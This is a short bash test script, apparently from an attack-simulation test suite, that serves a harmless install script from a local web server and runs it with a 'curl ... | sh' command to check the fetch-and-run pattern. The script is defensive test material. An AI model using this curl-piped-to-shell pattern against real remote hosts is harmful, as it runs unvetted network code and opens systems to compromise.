#!/usr/bin/env bash
# A program asks the shell to fetch a script from a web server on this host and to run it at once.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts

echo "echo ran >'$work/ran'" >"$work/install.sh"
python3 "$peer" web "$work/port" "$work/install.sh" 1 &
wait_for "$work/port"
sh -c "curl -s http://127.0.0.1:$(<"$work/port")/install.sh | sh"
wait_for "$work/ran"
wait
